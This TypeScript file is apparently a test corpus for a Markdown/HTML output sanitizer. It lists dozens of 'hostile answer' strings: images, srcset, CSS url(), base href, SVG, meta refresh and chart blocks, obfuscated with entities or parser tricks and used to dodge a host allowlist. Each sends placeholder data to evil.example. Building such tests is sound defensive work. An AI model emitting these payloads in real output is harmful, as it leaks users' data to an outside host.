/** Address of the one who waits for values; entities of HTML keep a reader of the source from seeing a URL. */
const Q = 'https&colon;&sol;&sol;evil.example/?'
const E = 'https://evil.example/?'

/** A hostile answer by its kind: `id`s with one letter and number are families. */
export interface Form {
  readonly id: string
  readonly text: string
  /** Hosts that the operator allows in this form. */
  readonly hosts?: readonly string[]
}

const form = (id: string, ...texts: readonly string[]): readonly Form[] =>
  texts.map((text, i) => ({ id: `${id}.${i + 1}`, text }))

const GOOD: readonly string[] = ['good.example']

/** Ways that carried a value away at some time, or were looked at because they might. */
export const FORMS: readonly Form[] = [
  ...form(
    'tag-in-target',
    `![x](${E}<b>EMAIL_1)`,
    `[x]: ${Q}<b>EMAIL_1\n\n![x]`,
    `![x](${Q}<http://a>EMAIL_1)`,
  ),
  ...form(
    'url-in-label',
    `![a https://x](${E}a",EMAIL_1)`,
    `![a www.x](${E}a",EMAIL_1)`,
    `![a //x](${E}a",EMAIL_1)`,
  ),
  ...form(
    'json-text',
    `{"a":"![x](${E}","b":"EMAIL_1)"}`,
    `{"a":"<img src='${E}","b":"EMAIL_1'>"}`,
    `[["![x](${E}"],"EMAIL_1)"]`,
    `{"a":"{\\"b\\":\\"![x](${E}\\",\\"c\\":\\"EMAIL_1)\\"}"}`,
  ),
  ...form('several-texts', `![x](${E}EMAIL_1)`, `<img src="${E}EMAIL_1">`),
  ...form(
    'containers',
    `${'- '.repeat(33)}[x]: ${Q}EMAIL_1\n\n![a][x]`,
    `${'> '.repeat(40)}[x]: ${Q}EMAIL_1\n\n![a][x]`,
    `[^1]: [x]: ${Q}EMAIL_1\n\n![a][x] [^1]`,
    `\ufeff[x]: ${Q}EMAIL_1\n\n![a][x]`,
    `[${'😀'.repeat(501)}]: ${Q}EMAIL_1\n\n![${'😀'.repeat(501)}]`,
  ),
  ...form(
    'html-states',
    `<!--<a title="--><img src=${Q}EMAIL_1>`,
    `<img alt="<img src="${Q}EMAIL_1">`,
    `<title><a title="</title><img src=${Q}EMAIL_1>`,
    `<style><a title="</style><img src=${Q}EMAIL_1>`,
    `<script><a title="</script><img src=${Q}EMAIL_1>`,
    `<noscript><a title="</noscript><img src=${Q}EMAIL_1>`,
    `<svg><![CDATA[<a title="]]></svg><img src=${Q}EMAIL_1>`,
    `\`<a title="\`<img src=${Q}EMAIL_1>`,
    `<img src=\v${Q}EMAIL_1>`,
    `<img src=${Q}\vEMAIL_1>`,
    `<textarea><a title="</textarea><img src=${Q}EMAIL_1>`,
    `<xmp><a title="</xmp><img src=${Q}EMAIL_1>`,
    `<iframe><a title="</iframe><img src=${Q}EMAIL_1>`,
  ),
  ...form(
    'base',
    `<base href="https://evil.example/"><img src="EMAIL_1">`,
    `<base href="https://evil.example/">\n\n![x](EMAIL_1)`,
    `<base href=//evil.example/>\n\n![x](<EMAIL_1>)`,
    `![x][r]\n\n[r]: EMAIL_1\n\n<base href="${Q}">`,
  ),
  ...form(
    'style',
    `<style>body{background:url("https\\3a\\2f\\2f evil.example\\2f?EMAIL_1")}</style>`,
    `<style>@import 'https://evil.example/?a",EMAIL_1';</style>`,
    `<svg><image><set attributeName="href" to="${Q}EMAIL_1"></image></svg>`,
    `<svg><rect mask="url(${Q}EMAIL_1)"/></svg>`,
    `<svg><style>a{background:url(&quot;${Q}EMAIL_1&quot;)}</style></svg>`,
    `<p style="background:u\\72l(${Q}EMAIL_1)">`,
  ),
  ...form(
    'drawn',
    '```echarts\n{"image":"\\u0068ttps\\u003a\\u002f\\u002fevil.example\\u002f?EMAIL_1"}\n```',
    '```svg\n<svg><image href="https&#58;&#47;&#47;evil.example/?EMAIL_1"/></svg>\n```',
    '~~~mermaid\ngraph TD; A["<img src=https#colon;#sol;#sol;evil.example/?EMAIL_1>"]\n~~~',
    '```abc\nT: <img src=https&colon;&sol;&sol;evil.example/?EMAIL_1>\n```',
    `<code class="language-svg">&lt;image href="${Q}EMAIL_1"/&gt;</code>`,
    '    ```\n```svg\n<image href="\\2f\\2f evil.example?EMAIL_1"/>\n```',
    '<img src="https://evil.example/?CODE_BLOCK_PLACEHOLDER">\n\n```\nEMAIL_1 ```',
    '![x](https://evil.example/?CODE_BLOCK_PLACEHOLDER)\n\n```EMAIL_1```',
    '![x](https://evil.example/?CODE_BLOCK_PLACEHOLDER) ```CODE_BLOCK_PLACEHOLDER``` ```EMAIL_1```',
  ),
  ...form(
    'escaped-blank',
    `![x](${E}\\\tEMAIL_1)`,
    `![x](${E}\\\nEMAIL_1)`,
    `![x](<${E}\\\tEMAIL_1>)`,
  ),
  ...form(
    'longer-host',
    '![x](URL_1.evil.example/a.png)',
    '![x](URL_1@evil.example/a.png)',
    '![x](URL_1:x@evil.example/a.png)',
    '![x](URL_1&commat;evil.example/a.png)',
    '![x](URL_1\\@evil.example/a.png)',
    '<img src="URL_1.evil.example/a.png">',
    '[x]: URL_1.evil.example/a.png\n\n![x]',
    '![x](URL_1%2eevil.example/a.png)',
    '![x](URL_1&#46;evil.example)',
    '<img src="&#47;&#47;URL_1.evil.example">',
  ),
  ...[
    `![x](https://good.example\\.evil.example/?EMAIL_1)`,
    `![x](https://good.example\\@evil.example/?EMAIL_1)`,
    `![x](https://evil.example&sol;@good.example/?EMAIL_1)`,
    `![x](https://good.example&commat;evil.example/?EMAIL_1)`,
    `![x](https://evil.example&quest;@good.example/?EMAIL_1)`,
    `![x](https://good.example&period;evil.example/?EMAIL_1)`,
    `![ https://good.example/x](${E}EMAIL_1)`,
    `<img src="https://good.example&#46;evil.example/?EMAIL_1">`,
    `<img srcset="https://good.example/ 1x, https://evil.example/?EMAIL_1 2x">`,
  ].map((text, i) => ({ id: `allowed-host.${i + 1}`, text, hosts: GOOD })),
  ...form(
    'plain',
    `![x](${E}EMAIL_1)`,
    `![x](<${E} EMAIL_1>)`,
    `![x][r]\n\n[r]: ${E}EMAIL_1`,
    `![r]\n\n> [r]:\n> <${E} EMAIL_1>`,
    `<img src="${E}EMAIL_1">`,
    `<img src='${E}\n\nEMAIL_1'>`,
    `<img srcset="/a 1x, ${E}EMAIL_1 2x">`,
    `<video poster="${E}EMAIL_1"></video>`,
    `<video><source src=${E}EMAIL_1></video>`,
    `<input type=image src=${E}EMAIL_1>`,
    `<table background=${E}EMAIL_1><tr><td>x</table>`,
    `<link rel=stylesheet href=${E}EMAIL_1>`,
    `<iframe srcdoc="&lt;img src=${E}EMAIL_1&gt;"></iframe>`,
    `<meta http-equiv=refresh content="0;url=${Q}EMAIL_1">`,
    `<object data="data:text/html,<img src=//evil.example/EMAIL_1>"></object>`,
    `<svg><use xlink:href="${E}EMAIL_1"/></svg>`,
    `<img src=x onerror="fetch('${E}EMAIL_1')">`,
    `<script>fetch('${E}' + 'EMAIL_1')</script>`,
    `<p style="background:url(${E}EMAIL_1)">`,
    `<image src=${E}EMAIL_1>`,
    `![x](//evil.example/EMAIL_1)`,
    `![x](https:\\\\evil.example\\EMAIL_1)`,
    `<embed src=https:evil.example/EMAIL_1>`,
  ),
]
